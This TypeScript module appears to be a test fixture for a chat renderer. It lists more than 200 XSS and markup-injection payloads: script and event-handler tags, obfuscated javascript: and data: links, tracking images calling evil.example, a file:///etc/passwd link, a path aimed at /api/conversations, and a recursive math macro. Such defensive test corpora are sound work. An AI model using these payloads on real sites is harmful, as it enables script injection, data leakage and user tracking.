/**
 * Texts that would run a script or ask another host for something, if anything on the page took text for markup.
 *
 * @module
 */

const HOST = "https://evil.example";
const RUN = "globalThis.pwned=(globalThis.pwned??0)+1";

const TAGS = [
  `<script>${RUN}</script>`,
  `<script src="${HOST}/a.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${HOST}/a.png">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><image href="${HOST}/a.svg" /></svg>`,
  `<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x" /></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${HOST}/a"></object>`,
  `<embed src="${HOST}/a">`,
  `<link rel="stylesheet" href="${HOST}/a.css">`,
  `<link rel="preload" as="script" href="${HOST}/a.js">`,
  `<style>@import "${HOST}/a.css"; body { background: url(${HOST}/b) }</style>`,
  `<base href="${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}">`,
  `<form action="${HOST}"><button>x</button></form>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<video src="${HOST}/a.mp4" autoplay onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<math><mtext><mglyph><style><img src=x onerror="${RUN}">`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<?php <img src=x onerror=${RUN}>`,
  `"><img src=x onerror=${RUN}>`,
  `'-${RUN}-'`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<portal src="${HOST}">`,
  `<div style="background:url(${HOST}/a)">x</div>`,
  `<p id="say">x</p><p id="spoken">x</p>`,
  `<img srcset="${HOST}/a 1x" src=x>`,
];

const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\tscript:",
  "&#106;avascript:",
  "&#x6A;avascript:",
  "javascript&colon;",
  "data:text/html,<script>",
  "data:text/html;base64,PHNjcmlwdD4=",
  "vbscript:",
  "blob:",
  "file:///etc/passwd",
  "//evil.example/",
  "\\\\evil.example\\",
  "filesystem:",
  "about:blank#",
];

const LINKS = SCHEMES.flatMap((scheme) => [
  `[x](${scheme}${RUN})`,
  `[x](<${scheme}${RUN}>)`,
  `![x](${scheme}${RUN})`,
  `<${scheme}${RUN}>`,
  `[x][r]\n\n[r]: ${scheme}${RUN}`,
]);

const PICTURES = [
  `![x](${HOST}/track.png)`,
  `![x](${HOST}/track.png "onerror=${RUN}")`,
  `[![x](${HOST}/track.png)](${HOST})`,
  `![x][p]\n\n[p]: ${HOST}/track.png`,
  `![x](data:image/svg+xml,<svg onload=${RUN}>)`,
  `![" onerror="${RUN}](x)`,
  `![x](/images/../../api/conversations)`,
  `![x](/images/0000 onerror=${RUN})`,
];

const MARKDOWN = [
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `| <img src=x onerror=${RUN}> | b |\n| --- | --- |\n| <script>${RUN}</script> | c |`,
  `# <img src=x onerror=${RUN}>`,
  `> <script>${RUN}</script>`,
  `- <img src=x onerror=${RUN}>\n- [x](javascript:${RUN})`,
  `**<img src=x onerror=${RUN}>**`,
  `[<img src=x onerror=${RUN}>](https://ok.example)`,
  `[x](https://ok.example "\\" onmouseover=${RUN} ")`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\<script>${RUN}</script>`,
  `- [ ] <input autofocus onfocus=${RUN}>`,
];

const MATH = [
  `$\\href{javascript:${RUN}}{x}$`,
  `$\\url{javascript:${RUN}}$`,
  `$\\includegraphics{${HOST}/a.png}$`,
  `$\\htmlClass{x}{y}$`,
  `$\\htmlStyle{background:url(${HOST})}{x}$`,
  `$\\htmlData{onerror=${RUN}}{x}$`,
  `$$\\href{data:text/html,<script>${RUN}</script>}{x}$$`,
  `$<img src=x onerror=${RUN}>$`,
  `$\\text{<img src=x onerror=${RUN}>}$`,
  `\\(\\def\\a{\\a\\a}\\a\\)`,
];

/** More than 200 of them. Half-written ones too: that is how they look while they stream. */
export const PAYLOADS: readonly string[] = [
  ...TAGS,
  ...LINKS,
  ...PICTURES,
  ...MARKDOWN,
  ...MATH,
  ...TAGS.map((tag) => tag.toUpperCase().replaceAll("GLOBALTHIS.PWNED=(GLOBALTHIS.PWNED??0)+1", RUN)),
  ...TAGS.slice(0, 30).map((tag) => tag.slice(0, -2)),
];
